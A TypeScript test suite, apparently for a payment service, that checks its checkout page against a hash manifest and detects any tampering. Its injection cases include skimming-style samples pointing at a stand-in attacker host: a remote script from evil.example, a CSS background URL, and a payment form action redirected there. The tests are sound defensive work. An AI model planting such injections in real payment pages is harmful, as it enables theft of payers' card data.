// The manifest of the payer's pages is true, and whatever is served otherwise is noticed: PCI DSS 6.4.3 and 11.6.1.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { before, describe, test } from 'node:test';
import { createMetrics } from '../../src/http/index.ts';
import manifest from '../../src/pages/manifest.json' with { type: 'json' };
import { checkPages, PREVIEW_PATH, pageWatch, type ServedPage } from '../../src/pages/self-check.ts';
import { type TestApp, testApp } from '../support/app.ts';
import { silent } from '../support/database.ts';

let florin: TestApp;
let page: ServedPage;
before(async () => {
  florin = await testApp({ WORKERS: 'on' });
  page = await fetchPage();
});

async function fetchPage(): Promise<ServedPage> {
  const response = await fetch(`${florin.url}${PREVIEW_PATH}`);
  return { status: response.status, headers: Object.fromEntries(response.headers), text: await response.text() };
}

const textsOf = (tag: string): string[] =>
  [...page.text.matchAll(new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`, 'g'))].map(([, text]) => text ?? '');
const hashesOf = (tag: string): string[] =>
  textsOf(tag).map((text) => createHash('sha256').update(text).digest('base64'));

test('the manifest names what is served, with a reason for each; after a change on purpose, these are its new values', () => {
  const { scripts, styles, policy, headers } = manifest;
  assert.deepEqual(
    scripts.map(({ sha256 }) => sha256),
    hashesOf('script'),
    'scripts of manifest.json',
  );
  assert.deepEqual(
    styles.map(({ sha256 }) => sha256),
    hashesOf('style'),
    'styles of manifest.json',
  );
  assert.deepEqual(policy, page.headers['content-security-policy']?.split('; '), 'policy of manifest.json');
  for (const [name, value] of Object.entries(headers)) assert.equal(page.headers[name], value, name);
  for (const { name, reason } of [...scripts, ...styles]) assert.ok(reason.length > 40, `the reason of ${name}`);
  for (const hash of [...hashesOf('script'), ...hashesOf('style')])
    assert.ok(policy.join(' ').includes(`'sha256-${hash}'`), 'the policy allows by these hashes');
});

test('what is served is what was written, on demand over HTTP, too', async () => {
  assert.deepEqual(await checkPages(fetchPage), []);
  const reply = await florin.operator('GET', '/operator/page-check');
  assert.deepEqual([reply.status, reply.body], [200, { ok: true, differences: [] }]);
  for (const stranger of [florin.merchant, florin.clientWith(null)])
    assert.equal((await stranger('GET', '/operator/page-check')).status, 401);
});

test('the service looks at its own page by itself once it has started', async () => {
  const own = await testApp({ WORKERS: 'on' });
  const seen = async (): Promise<boolean> =>
    /duration_seconds_count\{[^}]*http_route="\/pay\/preview"[^}]*\} 1\b/.test(
      await (await fetch(`${own.url}/metrics`)).text(),
    );
  const givenUp = Date.now() + 20_000;
  while (!(await seen())) assert.ok(Date.now() < givenUp, 'nobody asked for /pay/preview');
  assert.match(await (await fetch(`${own.url}/metrics`)).text(), /^florin_page_check_differences 0$/m);
});

const wheres = async (served: Partial<ServedPage>): Promise<string[]> =>
  (await checkPages(async () => ({ ...page, ...served }))).map(({ where }) => where);
const withText = (from: string | RegExp, to: string): Partial<ServedPage> => {
  const text = page.text.replace(from, () => to);
  assert.notEqual(text, page.text);
  return { text };
};

describe('a difference is noticed', () => {
  test('any one byte of the page', async () => {
    for (let at = 0; at < page.text.length; at += 97) {
      const other = page.text[at] === 'x' ? 'y' : 'x';
      const found = await wheres({ text: page.text.slice(0, at) + other + page.text.slice(at + 1) });
      assert.ok(found.length > 0, `at ${at}`);
      assert.ok(found.includes(`page, at character ${at}`), `at ${at}: ${found.join(', ')}`);
    }
    assert.ok((await wheres({ text: `${page.text} ` })).length > 0);
    assert.ok((await wheres({ text: page.text.slice(0, -1) })).length > 0);
  });

  test('each header field changed, gone, or one too many', async () => {
    for (const name of [...Object.keys(manifest.headers), 'content-security-policy']) {
      const { [name]: value = '', ...others } = page.headers;
      assert.deepEqual(new Set(await wheres({ headers: { ...others, [name]: `${value}x` } })), new Set([name]));
      assert.deepEqual(new Set(await wheres({ headers: others })), new Set([name]));
    }
    for (const name of manifest.absent)
      assert.deepEqual(await wheres({ headers: { ...page.headers, [name]: '*' } }), [name]);
  });

  test('each directive of the policy loosened, gone, or one too many', async () => {
    const policyOf = (directives: readonly string[]): Partial<ServedPage> => ({
      headers: { ...page.headers, 'content-security-policy': directives.join('; ') },
    });
    for (const directive of manifest.policy) {
      const others = manifest.policy.filter((other) => other !== directive);
      assert.deepEqual(await wheres(policyOf(others)), ['content-security-policy']);
      assert.equal((await wheres(policyOf([...others, `${directive} https://evil.example`]))).length, 2);
      assert.equal((await wheres(policyOf([...manifest.policy, directive]))).length, 1);
    }
  });

  const INJECTIONS: readonly (readonly [what: string, served: () => Partial<ServedPage>, where: string])[] = [
    ['a script', () => withText('</body>', '<script>1</script></body>'), 'script'],
    [
      'a script from elsewhere',
      () => withText('</body>', '<script src="https://evil.example/a.js"></script></body>'),
      'script',
    ],
    ['our script twice', () => withText('</body>', `<script>${textsOf('script')[0]}</script></body>`), 'script'],
    ['our script with an attribute', () => withText('<script>', '<script async>'), 'script'],
    ['no script', () => withText(/<script>[\s\S]*<\/script>/, ''), 'script'],
    [
      'a style',
      () => withText('</head>', '<style>input{background:url(https://evil.example)}</style></head>'),
      'style',
    ],
    ['an attribute that runs', () => withText('<main', '<main onclick="1"'), 'page, at character'],
    ['another action', () => withText('action="/pay/preview"', 'action="https://evil.example/"'), 'page, at character'],
    ['another status', () => ({ status: 500 }), 'status'],
    ['no answer', () => ({ status: 0, headers: {}, text: 'refused' }), 'status'],
  ];
  for (const [what, served, where] of INJECTIONS)
    test(what, async () => {
      const found = await wheres(served());
      assert.ok(
        found.some((name) => name.startsWith(where)),
        found.join(', '),
      );
    });

  test('is logged as an error and counted; the count goes back when it is mended', async () => {
    const metrics = createMetrics({ process: false });
    const errors: unknown[] = [];
    const log = Object.assign(Object.create(silent) as typeof silent, { error: (told: unknown) => errors.push(told) });
    let served = { ...page, ...withText('<main', '<main onclick="1"') };
    const look = pageWatch({
      fetchPage: async () => served,
      counted: metrics.pageDifferences,
      told: async () => undefined,
      log,
    });
    const counted = async (): Promise<number | undefined> =>
      (await metrics.registry.getSingleMetric('florin_page_check_differences')?.get())?.values[0]?.value;
    const differences = await look();
    assert.equal(differences.length, 1);
    assert.deepEqual(errors, [{ difference: differences[0] }]);
    assert.equal(await counted(), 1);
    served = page;
    assert.deepEqual(await look(), []);
    assert.equal(await counted(), 0);
    assert.equal(errors.length, 1);
  });
});
